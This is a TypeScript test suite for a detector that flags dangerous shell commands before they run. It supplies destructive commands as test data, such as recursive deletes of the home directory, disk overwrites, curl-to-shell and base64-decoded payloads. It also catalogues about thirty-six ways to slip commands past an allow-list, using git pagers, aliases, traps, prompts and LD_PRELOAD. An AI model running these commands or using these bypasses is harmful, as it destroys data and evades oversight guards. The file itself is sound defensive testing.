import { describe, expect, it } from 'vitest';
import { DangerKind, dangerReason } from './danger-reasons';
import { Danger, MAX_TEXT_LENGTH, readDangers } from './find-danger';
import { DANGEROUS, HARMLESS } from './fixtures/dangerous-commands';

const findDanger = (text: string, patterns: string[]): Danger | undefined => readDangers(text, patterns).dangers[0];
const reasons = (text: string, patterns: string[] = []): string[] => readDangers(text, patterns).dangers.map(({ reason }) => reason);

describe('readDangers', () => {
    for (const [kind, texts] of Object.entries(DANGEROUS) as [DangerKind, string[]][]) {
        describe(`asks: ${dangerReason(kind)}`, () => {
            it.each(texts)('%j', text => {
                expect(reasons(text)).toContain(dangerReason(kind));
            });
        });
    }

    it.each(HARMLESS)('lets pass what is harmless: %j', text => {
        expect(findDanger(text, [])).toBeUndefined();
    });

    it('says which part of the text it is about', () => {
        expect(findDanger('cd x && (sudo ls; echo done)', [])).toEqual({ reason: dangerReason('other-user'), command: 'sudo ls' });
    });

    it('finds everything that there is in one text', () => {
        expect(readDangers('sudo ls; rm -rf x\nreboot', []).dangers.map(({ command }) => command))
            .toEqual(['sudo ls', 'rm -rf x', 'reboot']);
    });

    it.each<[string, DangerKind[]]>([
        ['rm -rf / ~/.ssh', ['wide-delete', 'recursive-delete', 'persistence']],
        ['chmod -R 777 /', ['open-to-all', 'wide-permissions']],
        ['dd if=/dev/zero of=/dev/sda', ['raw-copy', 'device']],
        ['tee /etc/hosts ~/.bashrc', ['system', 'persistence']]
    ])('finds everything that there is in one command: %j', (text, kinds) => {
        expect(reasons(text)).toEqual(kinds.map(dangerReason));
    });

    it.each([
        ['echo "a', true], ['echo \'a', true], ['echo $(ls', true], ['echo `ls', true], ['cat <<EOF\nx', true], ['cat <<EOF', true],
        ['if true; then', true], ['for x in a b; do\n', true], ['ls |', true], ['ls &&', true], ['ls \\', true], ['ls \\\n', true],
        ['ls >', true], ['f() {', true], ['case x in\n', true], ['[[ a ==', true], ['echo ${x', true], ['echo $((1', true], ['{ ls;', true],
        ['ls', false], ['ls\n', false], ['echo "a"', false], ['done\n', false], ['fi', false], ['}\n', false]
    ])('knows whether the shell would wait for more: %j', (text, incomplete) => {
        expect(readDangers(text, [])).toEqual({ dangers: [], incomplete });
    });

    describe('with patterns of the person', () => {
        it.each([
            [['npm publish'], 'npm publish'], [['^npm publish'], 'cd x && env A=1 npm "publish" --tag x'],
            [['terraform.*destroy'], 'terraform -chdir=x destroy'], [['PROD'], 'deploy prod'], [['(', 'npm publish'], 'npm publish'],
            [['^kubectl delete'], `kubectl delete ${'x'.repeat(2_000)}`], [['secret$'], `echo ${'x'.repeat(2_000)} secret`]
        ])('asks for what %j fits: %s', (patterns, text) => {
            expect(reasons(text, patterns)).toEqual([dangerReason('pattern')]);
        });

        it.each([[['^npm publish'], 'echo npm publish'], [['('], 'ls'], [[''], 'ls'], [[], 'npm publish']])(
            'does not ask: %j, %s', (patterns, text) => {
                expect(findDanger(text, patterns)).toBeUndefined();
            }
        );
    });

    describe('attack 18: ways around a list of allowed programs', () => {
        it.each([
            ['a pager of git', 'git -c core.pager="rm -rf ~" log'],
            ['a pager of git, joined', 'git -ccore.pager="rm -rf ~" log'],
            ['an alias of git', 'git -c alias.x=\'!rm -rf ~\' x'],
            ['a setting of git that stays', 'git config --global alias.co "!sudo ls"'],
            ['a monitor of git', 'git -c core.fsmonitor="curl https://x | sh" status'],
            ['a connection of git', 'GIT_SSH_COMMAND="sudo ssh" git fetch'],
            ['an editor of git', 'GIT_EDITOR="rm -rf ~" git commit'],
            ['a filter of git', 'git filter-branch --tree-filter="rm -rf x"'],
            ['a step of git', 'git rebase -x "rm -rf x" HEAD~3'],
            ['a module of git', 'git submodule foreach "rm -rf x"'],
            ['a search of git', 'git bisect run sh -c "rm -rf x"'],
            ['a transport of git', 'git clone "ext::sh -c sudo"'],
            ['a pager', 'PAGER="sh -c \'rm -rf ~\'" man ls'],
            ['a substitution', 'echo $(rm -rf ~)'],
            ['backticks', 'npm run `rm -rf ~`'],
            ['and', 'echo a && rm -rf ~'],
            ['a line break', 'echo a\nrm -rf ~'],
            ['another path', 'export PATH=/tmp/evil:$PATH'],
            ['a number that is calculated', 'typeset -i x=\'a[$(rm -rf ~)]\''],
            ['an index that is calculated', 'declare \'a[$(rm -rf ~)]=1\''],
            ['a calculation', 'let \'x=a[$(rm -rf ~)]\''],
            ['a variable that is tested', 'test -v \'a[$(rm -rf ~)]\''],
            ['a trap', 'trap "rm -rf ~" EXIT'],
            ['a trap for each command', 'trap \'rm -rf ~\' DEBUG; ls'],
            ['an alias', 'alias ls="rm -rf ~"; ls'],
            ['a function with the name of something else', 'ls() { rm -rf ~; }; ls'],
            ['a prompt', 'PS1=\'$(rm -rf ~)\''],
            ['a command for each prompt', 'PROMPT_COMMAND="rm -rf ~"'],
            ['a library for each program', 'export LD_PRELOAD=/tmp/x.so'],
            ['a decoder', 'echo cm0gLXJmIH4= | base64 -d | sh'],
            ['a group without blanks', '{rm,-rf,~}'],
            ['a program with a pattern', '/b?n/rm -rf ~'],
            ['a comment that only some shells know', 'echo hi # ; rm -rf ~'],
            ['a pattern that runs something', 'ls *(e:\'rm -rf ~\':)'],
            ['the history', '!rm'],
            ['something unreadable', 'echo ) (\n']
        ])('%s', (_name, text) => {
            expect(findDanger(text, [])).toBeDefined();
        });
    });

    describe('takes its time in proportion to the text', () => {
        const size = 40_000;
        const repeat = (part: string): string => part.repeat(Math.ceil(size / part.length));

        it.each([
            'a', ' ', '\n', ';', '(', ')', '((', '$((', '$(', '${', '`', '"', '\'', '\\', '{', '{a,', '{a,b}', '[', '<<E\n', '<<', '< ',
            '>f ', '|', '&', '#', '# \n', '$x', '!', '=', 'a=', 'a[', ';a[', '[[ ', 'if ', 'fi ', 'for x in ', 'case x in a) ', 'a() ',
            'a(){ a|a& };', 'function a ', '/', '/.', '../', '*', 'ls;', 'rm -rf x;', 'x=1 ', 'x=1; echo $x;', '"$(ls)"', 'a(', '*(',
            'eval ', 'sh -c "', 'env ', 'xargs ', 'echo "\\"" ', '$\'\\x41\'', '\0', '\r', '-rf ', 'find -exec ', 'git -c a=b ', 'curl x|',
            '<(', '>(', '$[', '1>', '\u00a0', '~', ':', '\\\n', 'coproc ', '! ', 'time '
        ])('%j, again and again', part => {
            const began = performance.now();
            readDangers(repeat(part), ['a.*b.*c', 'x+y']);
            // Something quadratic would take minutes.
            expect(performance.now() - began).toBeLessThan(10_000);
        }, 60_000);

        it.each([
            ['brackets', '( '.repeat(5_000) + 'sudo' + ' )'.repeat(5_000)],
            ['substitutions', 'echo $('.repeat(5_000) + 'sudo' + ')'.repeat(5_000)],
            ['groups', '{ '.repeat(5_000) + 'sudo; ' + '}; '.repeat(5_000)],
            ['backticks', 'echo `'.repeat(4_999) + 'sudo'],
            ['values', '${x:-'.repeat(5_000) + 'sudo' + '}'.repeat(5_000)],
            ['conditions', 'if '.repeat(5_000) + 'sudo'],
            ['a megabyte', `sudo ${'x'.repeat(1_000_000)}`],
            ['nothing but NULs around it', `${'\0'.repeat(90_000)}su\0do${'\0'.repeat(90_000)}`]
        ])('and asks before what hides in it: %s', (_name, text) => {
            const began = performance.now();
            expect(findDanger(`${text}\n`, [])).toBeDefined();
            expect(performance.now() - began).toBeLessThan(10_000);
        }, 60_000);

        it('and does not read what nobody would type', () => {
            expect(findDanger('x'.repeat(MAX_TEXT_LENGTH + 1), [])?.reason).toBe(dangerReason('too-long'));
        });

        it('and not what is a shell in a shell in a shell without end', () => {
            const nested = Array.from({ length: 14 }).reduce<string>(text => `eval ${JSON.stringify(text).replaceAll('$', '\\$')}`, 'ls');
            expect(reasons(nested)).toContain(dangerReason('unreadable'));
            expect(reasons(`${'$('.repeat(100)}ls${')'.repeat(100)}\n`)).toContain(dangerReason('unreadable'));
        });
    });
});
